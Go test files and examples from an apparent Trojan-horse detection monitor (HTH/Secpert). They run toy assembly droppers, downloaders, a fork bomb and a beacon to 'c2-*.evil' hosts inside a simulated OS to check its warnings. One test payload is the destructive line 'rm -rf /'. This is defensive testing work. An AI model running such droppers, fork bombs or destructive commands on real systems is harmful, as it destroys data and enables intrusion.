// at the API boundary: a zero-rate plan yields a bit-identical result
// to no plan at all.
func TestChaosZeroRateInvisible(t *testing.T) {
	run := func(plan *chaos.Plan) *hth.Result {
		sys := readerSystem()
		cfg := hth.DefaultConfig()
		cfg.Chaos = plan
		res, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/reader"})
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	base := run(nil)
	zero := run(&chaos.Plan{Seed: 99, Rate: 0})
	if len(zero.Chaos) != 0 {
		t.Errorf("zero-rate plan injected %d faults", len(zero.Chaos))
	}
	if base.Process.ExitCode != zero.Process.ExitCode ||
		base.TotalSteps != zero.TotalSteps ||
		len(base.Warnings) != len(zero.Warnings) {
		t.Errorf("zero-rate run diverged: exit %d/%d steps %d/%d warnings %d/%d",
			base.Process.ExitCode, zero.Process.ExitCode,
			base.TotalSteps, zero.TotalSteps,
			len(base.Warnings), len(zero.Warnings))
	}
}

// TestPanicContainedAsRunError plants a panicking Advisor inside the
// run and checks the panic is converted into a *hth.RunError at the
// Run boundary instead of crashing the caller.
func TestPanicContainedAsRunError(t *testing.T) {
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/ls", lsSrc)
	sys.MustInstallSource("/bin/trojan", trojanSrc)
	cfg := hth.DefaultConfig()
	cfg.Advisor = secpert.AdvisorFunc(func(*secpert.Warning) secpert.Decision {
		panic("advisor exploded")
	})
	res, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/trojan"})
	if err == nil {
		t.Fatal("panic escaped as success")
	}
	var re *hth.RunError
	if !errors.As(err, &re) {
		t.Fatalf("err = %T %v, want *hth.RunError", err, err)
	}
	if re.Stage != "run" || !strings.Contains(re.Error(), "advisor exploded") {
		t.Errorf("RunError = %+v", re)
	}
	if len(re.Stack) == 0 {
		t.Error("no stack captured")
	}
	if res != nil {
		t.Error("result returned alongside contained panic")
	}
}

// TestMissingProgramIsGuestFault checks setup failures carry the
// guest-attributable *hth.GuestFault type.
func TestMissingProgramIsGuestFault(t *testing.T) {
	sys := hth.NewSystem()
	_, err := sys.Run(hth.DefaultConfig(), hth.RunSpec{Path: "/nope"})
	var gf *hth.GuestFault
	if !errors.As(err, &gf) {
		t.Fatalf("err = %T %v, want *hth.GuestFault", err, err)
	}
	if gf.Path != "/nope" {
		t.Errorf("Path = %q", gf.Path)
	}
}

// TestDeadlineConfig bounds a spinning guest by wall-clock time
// through the public Config.
func TestDeadlineConfig(t *testing.T) {
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/spin", ".text\n_start:\nl: jmp l\n")
	cfg := hth.DefaultConfig()
	cfg.MaxSteps = 1 << 62
	cfg.Deadline = 20 * time.Millisecond
	res, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/spin"})
	if err != nil {
		t.Fatal(err)
	}
	if res.RunErr != vos.ErrDeadline {
		t.Errorf("RunErr = %v, want vos.ErrDeadline", res.RunErr)
	}
}
