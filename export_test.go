package hth

// SetLegacyInstall flips InstallSource onto the historical direct
// asm.Assemble path (true) or the format-registry path (false),
// returning the previous setting. Test-only: the equivalence suite
// proves the two paths behavior-identical.
func SetLegacyInstall(v bool) bool {
	prev := legacyInstall
	legacyInstall = v
	return prev
}
