package hth_test

import (
	"bytes"
	"flag"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	hth "repro"
	"repro/internal/obs"
)

var updateGolden = flag.Bool("update", false, "rewrite golden files")

// TestProvenanceChainGolden pins one causal chain byte-for-byte: the
// trojan run is deterministic, so the rendered Report — warning plus
// its indented provenance chains — must be stable across refactors of
// the recorder. Regenerate deliberately with -update.
func TestProvenanceChainGolden(t *testing.T) {
	sys := trojanSystem()
	res, err := sys.Run(hth.NewConfig(hth.WithProvenance()), hth.RunSpec{Path: "/bin/trojan"})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Warnings) == 0 {
		t.Fatal("trojan run produced no warnings")
	}
	for _, w := range res.Warnings {
		if len(w.Chain) == 0 {
			t.Fatalf("warning %q has no provenance chain", w.Rule)
		}
	}
	got := []byte(res.Report())
	golden := filepath.Join("testdata", "provenance_chain.golden")
	if *updateGolden {
		if err := os.WriteFile(golden, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run with -update to create)", err)
	}
	if !bytes.Equal(got, want) {
		t.Fatalf("provenance report diverged from golden:\n--- got ---\n%s\n--- want ---\n%s", got, want)
	}
}

// TestProvenanceOffReportUnchanged guards the default path: with
// provenance off the warnings carry no chains and Report stays
// byte-identical to the pre-provenance format.
func TestProvenanceOffReportUnchanged(t *testing.T) {
	res, err := trojanSystem().Run(hth.DefaultConfig(), hth.RunSpec{Path: "/bin/trojan"})
	if err != nil {
		t.Fatal(err)
	}
	if res.Provenance != nil {
		t.Error("Result.Provenance set on a provenance-off run")
	}
	for _, w := range res.Warnings {
		if w.Chain != nil {
			t.Errorf("provenance-off warning %q carries chain %v", w.Rule, w.Chain)
		}
	}
	if strings.Contains(res.Report(), "chain:") {
		t.Errorf("provenance-off Report mentions chains:\n%s", res.Report())
	}
}

// TestFlightDumpOnWarning: a rule fire must trigger the automatic
// flight dump, and the gzipped dump must replay to the same events the
// Result carries.
func TestFlightDumpOnWarning(t *testing.T) {
	path := filepath.Join(t.TempDir(), "flight.jsonl.gz")
	res, err := trojanSystem().Run(hth.NewConfig(hth.WithFlightDump(path)), hth.RunSpec{Path: "/bin/trojan"})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Warnings) == 0 {
		t.Fatal("trojan run produced no warnings; dump trigger untested")
	}
	if len(res.Flight) == 0 {
		t.Fatal("Result.Flight is empty")
	}
	f, err := os.Open(path)
	if err != nil {
		t.Fatalf("flight dump not written: %v", err)
	}
	defer f.Close()
	r, err := obs.MaybeGzip(f)
	if err != nil {
		t.Fatal(err)
	}
	var replayed []hth.Event
	if err := obs.ReadJSONL(r, func(e hth.Event) error {
		replayed = append(replayed, e)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if len(replayed) != len(res.Flight) {
		t.Fatalf("dump replayed %d events, Result.Flight has %d", len(replayed), len(res.Flight))
	}
	for i := range replayed {
		if replayed[i] != res.Flight[i] {
			t.Fatalf("dump event %d = %+v, Result.Flight has %+v", i, replayed[i], res.Flight[i])
		}
	}
}

// TestFlightNotDumpedOnCleanRun: a run with no warnings, faults, or
// chaos must not leave a dump behind.
func TestFlightNotDumpedOnCleanRun(t *testing.T) {
	path := filepath.Join(t.TempDir(), "flight.jsonl.gz")
	res, err := trojanSystem().Run(hth.NewConfig(hth.WithFlightDump(path)), hth.RunSpec{Path: "/bin/ls"})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Warnings) != 0 {
		t.Fatalf("clean run warned: %v", res.Warnings)
	}
	if _, err := os.Stat(path); !os.IsNotExist(err) {
		t.Fatalf("clean run dumped the flight recorder (stat err = %v)", err)
	}
	// The ring is still returned for inspection.
	if len(res.Flight) == 0 {
		t.Error("Result.Flight empty on a recorded run")
	}
}

// TestIntrospectionEndToEnd is the live-curl acceptance check:
// configure introspection on an ephemeral port, run the trojan, and
// fetch /metrics and /flight from the still-serving endpoint.
func TestIntrospectionEndToEnd(t *testing.T) {
	res, err := trojanSystem().Run(
		hth.NewConfig(hth.WithProvenance(), hth.WithIntrospection("127.0.0.1:0")),
		hth.RunSpec{Path: "/bin/trojan"})
	if err != nil {
		t.Fatal(err)
	}
	if res.Introspection == nil {
		t.Fatal("Result.Introspection is nil")
	}
	defer res.Introspection.Shutdown()
	base := "http://" + res.Introspection.Addr()

	resp, err := http.Get(base + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("/metrics status = %d", resp.StatusCode)
	}
	if !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/plain; version=0.0.4") {
		t.Fatalf("/metrics Content-Type = %q", resp.Header.Get("Content-Type"))
	}
	for _, want := range []string{"hth_syscalls_total", "hth_warnings_total"} {
		if !strings.Contains(string(body), want) {
			t.Errorf("/metrics missing %q", want)
		}
	}

	resp, err = http.Get(base + "/flight")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	n := 0
	if err := obs.ReadJSONL(resp.Body, func(hth.Event) error { n++; return nil }); err != nil {
		t.Fatal(err)
	}
	if n == 0 {
		t.Error("/flight replayed no events after a run")
	}
}

// TestIntrospectionBadAddr: an unbindable address must fail the run
// with a configuration error, not a guest fault.
func TestIntrospectionBadAddr(t *testing.T) {
	_, err := trojanSystem().Run(
		hth.NewConfig(hth.WithIntrospection("256.0.0.1:bogus")),
		hth.RunSpec{Path: "/bin/trojan"})
	if err == nil {
		t.Fatal("unbindable introspection address accepted")
	}
	if !strings.Contains(err.Error(), "introspection") {
		t.Errorf("error does not mention introspection: %v", err)
	}
}
