package hth_test

import (
	"strings"
	"testing"

	hth "repro"
	"repro/internal/secpert"
	"repro/internal/vos"
)

// --- Cross-session history (paper §10 items 6 & 8) ---

const dropperSrc = `
.text
_start:
    mov ebx, f
    mov eax, 8          ; creat("/tmp/payload")
    int 0x80
    mov ebx, eax
    mov ecx, data
    mov edx, 8
    mov eax, 4
    int 0x80
    hlt
.data
f:    .asciz "/tmp/payload"
data: .asciz "DROPPED1"
`

// executor runs argv[1]; with a user-given name this is normally
// clean.
const executorSrc = `
.text
_start:
    mov ebp, [esp+4]
    mov ebx, [ebp+4]
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
`

func TestCrossSessionExecveEscalation(t *testing.T) {
	hist := secpert.NewHistory()
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/dropper", dropperSrc)
	sys.MustInstallSource("/bin/executor", executorSrc)

	cfg := hth.DefaultConfig()
	cfg.Policy.History = hist

	// Session 1: the dropper creates /tmp/payload (High warning for
	// the hardcoded write; the file is recorded in history).
	res1, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/dropper"})
	if err != nil {
		t.Fatal(err)
	}
	if res1.CountAt(hth.High) == 0 {
		t.Fatal("dropper write not flagged")
	}
	if hist.Sessions() != 1 {
		t.Fatalf("sessions = %d", hist.Sessions())
	}
	if _, ok := hist.WrittenIn("/tmp/payload"); !ok {
		t.Fatal("history did not record the write")
	}

	// The dropped "payload" must be executable for session 2; swap
	// in a real image at the same path.
	sys.MustInstallSource("/tmp/payload", ".text\n_start: hlt\n")

	// Session 2: executing /tmp/payload with a *user-given* name
	// would normally be clean; history escalates it to High.
	res2, err := sys.Run(cfg, hth.RunSpec{
		Path: "/bin/executor",
		Argv: []string{"/bin/executor", "/tmp/payload"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(res2.Warnings) != 1 || res2.Warnings[0].Severity != hth.High {
		t.Fatalf("warnings = %v", res2.Warnings)
	}
	if !strings.Contains(res2.Warnings[0].Message, "previous session (session 1)") {
		t.Errorf("message = %q", res2.Warnings[0].Message)
	}
}

func TestCrossSessionWithoutHistoryStaysClean(t *testing.T) {
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/dropper", dropperSrc)
	sys.MustInstallSource("/bin/executor", executorSrc)
	cfg := hth.DefaultConfig() // no history
	if _, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/dropper"}); err != nil {
		t.Fatal(err)
	}
	sys.MustInstallSource("/tmp/payload", ".text\n_start: hlt\n")
	res, err := sys.Run(cfg, hth.RunSpec{
		Path: "/bin/executor",
		Argv: []string{"/bin/executor", "/tmp/payload"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Warnings) != 0 {
		t.Fatalf("warnings without history = %v", res.Warnings)
	}
}

func TestApprovedWarningSuppressed(t *testing.T) {
	hist := secpert.NewHistory()
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/ls", ".text\n_start: hlt\n")
	sys.MustInstallSource("/bin/tool", `
.text
_start:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
.data
prog: .asciz "/bin/ls"
`)
	cfg := hth.DefaultConfig()
	cfg.Policy.History = hist

	res1, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/tool"})
	if err != nil {
		t.Fatal(err)
	}
	if len(res1.Warnings) != 1 {
		t.Fatalf("warnings = %v", res1.Warnings)
	}
	// The user reviews the warning and allows the behaviour.
	hist.Approve(&res1.Warnings[0])

	res2, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/tool"})
	if err != nil {
		t.Fatal(err)
	}
	if len(res2.Warnings) != 0 {
		t.Fatalf("approved warning repeated: %v", res2.Warnings)
	}
	if res2.Secpert.Suppressed() != 1 {
		t.Errorf("suppressed = %d", res2.Secpert.Suppressed())
	}
}

// --- Memory abuse (paper §10 item 4) ---

func TestMemoryAbuseRule(t *testing.T) {
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/hog", `
.text
_start:
    ; grow the heap in 1 MiB steps up to 32 MiB
    mov eax, 45         ; brk(0): query
    mov ebx, 0
    int 0x80
    mov esi, eax
    mov edi, 32
grow:
    add esi, 0x100000
    mov ebx, esi
    mov eax, 45         ; brk(new)
    int 0x80
    dec edi
    jnz grow
    hlt
`)
	cfg := hth.DefaultConfig()
	cfg.Policy.EnableMemoryAbuse = true
	res, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/hog"})
	if err != nil {
		t.Fatal(err)
	}
	var low, medium int
	for _, w := range res.Warnings {
		if w.Rule != "check_memory_abuse" {
			t.Errorf("unexpected rule %q", w.Rule)
		}
		switch w.Severity {
		case hth.Low:
			low++
		case hth.Medium:
			medium++
		}
	}
	if low != 1 || medium != 1 {
		t.Fatalf("memory warnings low=%d medium=%d: %v", low, medium, res.Warnings)
	}
	if !strings.Contains(res.Warnings[0].Message, "memory allocation") {
		t.Errorf("message = %q", res.Warnings[0].Message)
	}
}

func TestMemoryAbuseDisabledByDefault(t *testing.T) {
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/hog", `
.text
_start:
    mov ebx, 0x22000000
    mov eax, 45
    int 0x80
    hlt
`)
	res, err := sys.Run(hth.DefaultConfig(), hth.RunSpec{Path: "/bin/hog"})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Warnings) != 0 {
		t.Fatalf("warnings = %v", res.Warnings)
	}
}

// --- Content analysis (paper §10 item 5) ---

type payloadServer struct{ payload string }

func (s payloadServer) OnConnect(c *vos.RemoteConn)  { c.Send([]byte(s.payload)) }
func (payloadServer) OnData(*vos.RemoteConn, []byte) {}

const downloaderSrc = `
.text
_start:
    mov eax, 102
    mov ebx, 1          ; socket
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], srv
    mov eax, 102
    mov ebx, 3          ; connect
    mov ecx, scargs
    int 0x80
    mov [scargs+4], buf
    mov [scargs+8], 32
    mov eax, 102
    mov ebx, 10         ; recv
    mov ecx, scargs
    int 0x80
    mov esi, eax
    ; drop it: the file name comes from argv[1] (user) so without
    ; content analysis this is only a Low warning
    mov ebp, [esp+4]
    mov ebx, [ebp+4]
    mov eax, 8          ; creat
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, esi
    mov eax, 4          ; write
    int 0x80
    hlt
.data
srv:    .asciz "dl.example:80"
buf:    .space 32
scargs: .space 12
`

func runDownloader(t *testing.T, payload string, analysis bool) *hth.Result {
	t.Helper()
	sys := hth.NewSystem()
	sys.AddRemote("dl.example:80", func() vos.RemoteScript {
		return payloadServer{payload: payload}
	})
	sys.MustInstallSource("/bin/dl", downloaderSrc)
	cfg := hth.DefaultConfig()
	cfg.Policy.EnableContentAnalysis = analysis
	res, err := sys.Run(cfg, hth.RunSpec{
		Path: "/bin/dl",
		Argv: []string{"/bin/dl", "out.bin"},
	})
	if err != nil {
		t.Fatal(err)
	}
	return res
}

func TestContentAnalysisEscalatesExecutables(t *testing.T) {
	for _, payload := range []string{"\x7fELF\x01\x01\x01payload", "#!/bin/sh\nrm -rf /", "MZ\x90\x00stub"} {
		res := runDownloader(t, payload, true)
		if len(res.Warnings) != 1 || res.Warnings[0].Severity != hth.High {
			t.Fatalf("payload %q: warnings = %v", payload[:4], res.Warnings)
		}
		if !strings.Contains(res.Warnings[0].Message, "appears to be executable") {
			t.Errorf("message = %q", res.Warnings[0].Message)
		}
	}
}

func TestContentAnalysisIgnoresPlainData(t *testing.T) {
	res := runDownloader(t, "just a text file", true)
	if len(res.Warnings) != 1 || res.Warnings[0].Severity != hth.Low {
		t.Fatalf("warnings = %v", res.Warnings)
	}
}

func TestContentAnalysisOffByDefault(t *testing.T) {
	res := runDownloader(t, "\x7fELF\x01\x01\x01payload", false)
	if len(res.Warnings) != 1 || res.Warnings[0].Severity != hth.Low {
		t.Fatalf("warnings = %v", res.Warnings)
	}
}

// --- Simultaneous sessions (paper §10 item 7) ---

func TestSimultaneousSessionsShareProvenance(t *testing.T) {
	sys := hth.NewSystem()
	// Program A creates /tmp/shared with a hardcoded name.
	sys.MustInstallSource("/bin/a", `
.text
_start:
    mov ebx, f
    mov eax, 8          ; creat (records the hardcoded origin)
    int 0x80
    mov ebx, eax
    mov ecx, d
    mov edx, 4
    mov eax, 4
    int 0x80
    hlt
.data
f: .asciz "/tmp/shared"
d: .asciz "DATA"
`)
	// Program B reads the same file via argv (user name from B's
	// point of view) and sends it to a user-named socket: on its own
	// this is (user, user) = clean, but the *shared* session knows
	// program A hardcoded the file's name.
	sys.MustInstallSource("/bin/b", `
.text
_start:
    mov ebp, [esp+4]
    mov ebx, [ebp+4]
    mov ecx, 0
    mov eax, 5          ; open(argv[1])
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 4
    mov eax, 3
    int 0x80
    mov eax, 102
    mov ebx, 1
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov eax, [ebp+8]
    mov [scargs+4], eax ; connect(argv[2])
    mov eax, 102
    mov ebx, 3
    mov ecx, scargs
    int 0x80
    mov [scargs+4], buf
    mov [scargs+8], 4
    mov eax, 102
    mov ebx, 9          ; send
    mov ecx, scargs
    int 0x80
    hlt
.data
buf:    .space 4
scargs: .space 12
`)
	sys.AddRemote("sink.example:80", func() vos.RemoteScript { return payloadServer{} })

	sn := sys.NewSession(hth.DefaultConfig())
	if _, err := sn.Start(hth.RunSpec{Path: "/bin/a"}); err != nil {
		t.Fatal(err)
	}
	if _, err := sn.Start(hth.RunSpec{
		Path: "/bin/b",
		Argv: []string{"/bin/b", "/tmp/shared", "sink.example:80"},
	}); err != nil {
		t.Fatal(err)
	}
	res, err := sn.Wait()
	if err != nil {
		t.Fatal(err)
	}
	// A's hardcoded write produces its High; the cross-program
	// correlation produces a file→socket warning from B's write,
	// which B alone could not have classified.
	found := false
	for _, w := range res.Warnings {
		if strings.Contains(w.Message, "Data Flowing From: /tmp/shared To: sink.example:80") {
			found = true
			if !strings.Contains(w.Message, "source filename was hardcoded in:") {
				t.Errorf("correlation lost provenance: %q", w.Message)
			}
		}
	}
	if !found {
		t.Fatalf("cross-program flow not detected: %v", res.Warnings)
	}
}

func TestSessionWaitWithoutStart(t *testing.T) {
	sys := hth.NewSystem()
	if _, err := sys.NewSession(hth.DefaultConfig()).Wait(); err == nil {
		t.Error("empty session Wait succeeded")
	}
}
