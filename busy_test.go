package hth

import (
	"testing"
)

const busyGuardSrc = `
.text
_start:
    mov ebx, 0
    mov eax, 1
    int 0x80
`

// TestRunBusyGuard pins the shared-System guard: a System whose run
// slot is taken rejects Run with ErrSystemBusy instead of racing the
// scheduler state, and frees the slot again on completion (including
// the rejection path itself).
func TestRunBusyGuard(t *testing.T) {
	sys := NewSystem()
	sys.MustInstallSource("/bin/prog", busyGuardSrc)

	sys.running.Store(1) // simulate a run in flight on another goroutine
	if _, err := sys.Run(DefaultConfig(), RunSpec{Path: "/bin/prog"}); err != ErrSystemBusy {
		t.Fatalf("Run on a busy System: %v, want ErrSystemBusy", err)
	}
	sys.running.Store(0)
	if _, err := sys.Run(DefaultConfig(), RunSpec{Path: "/bin/prog"}); err != nil {
		t.Fatalf("Run after the slot freed: %v", err)
	}
	if sys.running.Load() != 0 {
		t.Fatal("Run did not release the busy slot")
	}
}

// TestWaitBusyGuard is the same contract on the Session path.
func TestWaitBusyGuard(t *testing.T) {
	sys := NewSystem()
	sys.MustInstallSource("/bin/prog", busyGuardSrc)
	sn := sys.NewSession(DefaultConfig())
	if _, err := sn.Start(RunSpec{Path: "/bin/prog"}); err != nil {
		t.Fatal(err)
	}
	sys.running.Store(1)
	if _, err := sn.Wait(); err != ErrSystemBusy {
		t.Fatalf("Wait on a busy System: %v, want ErrSystemBusy", err)
	}
	sys.running.Store(0)
	if _, err := sn.Wait(); err != nil {
		t.Fatalf("Wait after the slot freed: %v", err)
	}
}
