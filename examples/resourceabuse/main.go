// Resource abuse: the superforker scenario of paper §8.3.7. A fork
// bomb is caught twice — first when the number of created processes
// crosses the count threshold (Low), then when the creation *rate*
// crosses the rate threshold (Medium). The example also shows policy
// tuning: lowering the thresholds catches the bomb earlier.
package main

import (
	"fmt"
	"log"

	hth "repro"
)

const forkBomb = `
.text
_start:
    mov esi, 14         ; generations
loop:
    mov eax, 2          ; SYS_fork
    int 0x80
    cmp eax, 0
    jz child
    dec esi
    cmp esi, 0
    jnz loop
    hlt
child:
    ; each child idles briefly, then exits
    mov ebx, 1500
    mov eax, 162        ; SYS_nanosleep
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
`

func main() {
	fmt.Println("=== default thresholds (count >= 8, rate >= 8) ===")
	run(hth.DefaultConfig())

	fmt.Println("=== strict policy (count >= 3, rate >= 4) ===")
	cfg := hth.DefaultConfig()
	cfg.Policy.CloneCountHigh = 3
	cfg.Policy.CloneRateHigh = 4
	run(cfg)
}

func run(cfg hth.Config) {
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/bomb", forkBomb)
	res, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/bomb"})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(res.Report())
	live := 0
	for _, p := range sys.OS.Processes() {
		if p.Alive() {
			live++
		}
	}
	fmt.Printf("processes created: %d, warnings: %d\n\n",
		len(sys.OS.Processes()), len(res.Warnings))
}
