// Cross-session monitoring: the paper's §10 future-work items 6 and 8.
// Secpert keeps a History across program executions:
//
//  1. Session 1 watches a downloader drop a file.
//  2. Session 2 sees a *different* program execute that file with a
//     perfectly innocent-looking (user-given) name — and escalates it
//     to High because the History remembers who created it.
//  3. The user then approves a recurring Low warning once, and the
//     identical warning is suppressed in the next session.
package main

import (
	"fmt"
	"log"

	hth "repro"
	"repro/internal/secpert"
)

const downloader = `
.text
_start:
    mov ebx, f
    mov eax, 8          ; creat("/tmp/update.bin")
    int 0x80
    mov ebx, eax
    mov ecx, data
    mov edx, 8
    mov eax, 4
    int 0x80
    hlt
.data
f:    .asciz "/tmp/update.bin"
data: .asciz "UPDATE01"
`

const launcher = `
.text
_start:
    mov ebp, [esp+4]
    mov ebx, [ebp+4]    ; argv[1]: the user picked the program
    mov ecx, 0
    mov edx, 0
    mov eax, 11         ; execve
    int 0x80
    hlt
`

func main() {
	hist := secpert.NewHistory()
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/downloader", downloader)
	sys.MustInstallSource("/bin/launcher", launcher)

	cfg := hth.DefaultConfig()
	cfg.Policy.History = hist

	fmt.Println("=== session 1: the downloader runs ===")
	res, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/downloader"})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(res.Report())

	// Between sessions the dropped file becomes executable (the
	// attacker's payload).
	sys.MustInstallSource("/tmp/update.bin", ".text\n_start: hlt\n")

	fmt.Println("=== session 2: the user launches /tmp/update.bin by hand ===")
	res, err = sys.Run(cfg, hth.RunSpec{
		Path: "/bin/launcher",
		Argv: []string{"/bin/launcher", "/tmp/update.bin"},
	})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(res.Report())

	fmt.Println("=== session 3: the user approves the session-1 warning; it goes quiet ===")
	for i := range res.Warnings {
		hist.Approve(&res.Warnings[i])
	}
	res, err = sys.Run(cfg, hth.RunSpec{
		Path: "/bin/launcher",
		Argv: []string{"/bin/launcher", "/tmp/update.bin"},
	})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(res.Report())
	fmt.Printf("suppressed by prior approval: %d\n", res.Secpert.Suppressed())
}
