// Custom policy: extend Secpert with your own CLIPS-style rule on top
// of the built-in §4 policy. The example adds a rule the paper lists
// as future work (§10 item 4, network abuse): warn when a program
// connects to many distinct endpoints — beaconing behaviour.
//
// It demonstrates the expert-system surface: templates are already
// defined, facts arrive per event, and a new rule can pattern-match
// them and issue its own warnings through the engine's printout.
package main

import (
	"fmt"
	"log"
	"os"

	hth "repro"
	"repro/internal/expert"
	"repro/internal/harrier"
	"repro/internal/secpert"
	"repro/internal/vos"
)

// beacon contacts four different hosts in a row.
const beacon = `
.text
_start:
    mov edi, addrs      ; table of 4 address-string pointers
    mov esi, 4
next:
    mov eax, 102
    mov ebx, 1          ; socket
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov eax, [edi]
    mov [scargs+4], eax
    mov eax, 102
    mov ebx, 3          ; connect
    mov ecx, scargs
    int 0x80
    add edi, 4
    dec esi
    jnz next
    hlt
.data
a1: .asciz "c2-a.evil:443"
a2: .asciz "c2-b.evil:443"
a3: .asciz "c2-c.evil:443"
a4: .asciz "c2-d.evil:443"
addrs:  .word a1, a2, a3, a4
scargs: .space 12
`

type nullScript struct{}

func (nullScript) OnConnect(*vos.RemoteConn)      {}
func (nullScript) OnData(*vos.RemoteConn, []byte) {}

func main() {
	sys := hth.NewSystem()
	for _, ep := range []string{"c2-a.evil:443", "c2-b.evil:443", "c2-c.evil:443", "c2-d.evil:443"} {
		sys.AddRemote(ep, func() vos.RemoteScript { return nullScript{} })
	}
	sys.MustInstallSource("/bin/beacon", beacon)

	// Build the policy, then graft a custom rule onto the engine
	// before the run starts.
	sec := secpert.New(secpert.DefaultConfig(), nil)
	seen := map[string]bool{}
	err := sec.Engine().DefRule(&expert.Rule{
		Name:     "check_beaconing",
		Doc:      "many distinct outbound connections",
		Salience: 7,
		Patterns: []expert.Pattern{
			expert.P("system_call_access",
				expert.S("system_call_name", expert.Lit("SYS_socketcall:connect")),
				expert.S("resource_name", expert.Var("addr")),
			),
		},
		Action: func(ctx *expert.Context, b *expert.Bindings) {
			seen[b.Str("addr")] = true
			if len(seen) == 3 {
				ctx.Printf("Warning [custom] program contacted %d distinct endpoints — beaconing?\n", len(seen))
			}
		},
	})
	if err != nil {
		log.Fatal(err)
	}

	// Run through the low-level API so our pre-built Secpert is used.
	h := harrier.New(harrier.DefaultConfig(), sec)
	p, err := sys.OS.StartProcess(vos.ProcSpec{
		Path:    "/bin/beacon",
		Monitor: h,
		Store:   h.Store,
	})
	if err != nil {
		log.Fatal(err)
	}
	sec.SetOutput(os.Stdout)
	if err := sys.OS.Run(); err != nil {
		log.Fatal(err)
	}

	fmt.Printf("\nguest exited %d; built-in warnings: %d; distinct endpoints seen: %d\n",
		p.ExitCode, len(sec.Warnings()), len(seen))
	for _, w := range sec.Warnings() {
		fmt.Println(w)
	}
}
