// Quickstart: install a guest program, run it under the HTH monitor,
// and print any warnings — the smallest useful HTH session.
package main

import (
	"fmt"
	"log"

	hth "repro"
)

// The "suspect": a program that executes another binary whose path is
// hardcoded in its own image — the signature Trojan pattern of the
// paper's §4.1.
const suspect = `
.text
_start:
    mov ebx, prog       ; hardcoded "/bin/ls"
    mov ecx, 0
    mov edx, 0
    mov eax, 11         ; SYS_execve
    int 0x80
    hlt
.data
prog: .asciz "/bin/ls"
`

func main() {
	sys := hth.NewSystem()

	// A stand-in for /bin/ls so the execve has a target.
	sys.MustInstallSource("/bin/ls", ".text\n_start: hlt\n")
	sys.MustInstallSource("/bin/suspect", suspect)

	res, err := sys.Run(hth.DefaultConfig(), hth.RunSpec{Path: "/bin/suspect"})
	if err != nil {
		log.Fatal(err)
	}

	fmt.Printf("guest executed %d instructions, exit code %d\n\n",
		res.TotalSteps, res.Process.ExitCode)
	fmt.Print(res.Report())

	if sev, any := res.MaxSeverity(); any {
		fmt.Printf("max severity: %s\n", sev)
	} else {
		fmt.Println("clean run")
	}
}
