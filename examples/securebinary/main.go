// Secure Binary: the static verifier of the paper's Appendix B. A
// "Secure Binary" hardcodes no resource names and writes no hardcoded
// data — it is *safer* (not safe) with respect to Trojan Horses.
//
// The example checks two programs: a well-behaved filter that takes
// everything from the command line, and a Trojan dropper — then shows
// that the dynamic monitor agrees with the static verdicts.
package main

import (
	"fmt"
	"log"

	hth "repro"
	"repro/internal/asm"
	"repro/internal/secbin"
)

const wellBehaved = `
.text
_start:
    mov ebp, [esp+4]
    mov ebx, [ebp+4]    ; input file from argv
    mov ecx, 0
    mov eax, 5          ; open
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 32
    mov eax, 3          ; read
    int 0x80
    mov esi, eax
    mov ebx, [ebp+8]    ; output file from argv
    mov eax, 8          ; creat
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, esi
    mov eax, 4          ; write (runtime data)
    int 0x80
    hlt
.data
buf: .space 32
`

const dropper = `
.text
_start:
    mov ebx, path
    mov eax, 8          ; creat(hardcoded)
    int 0x80
    mov ebx, eax
    mov ecx, payload
    mov edx, 8
    mov eax, 4          ; write(hardcoded data)
    int 0x80
    mov ebx, path
    mov ecx, 0
    mov edx, 0
    mov eax, 11         ; execve(hardcoded)
    int 0x80
    hlt
.data
path:    .asciz "/tmp/.hidden"
payload: .asciz "EVILCODE"
`

func main() {
	for _, prog := range []struct{ name, src string }{
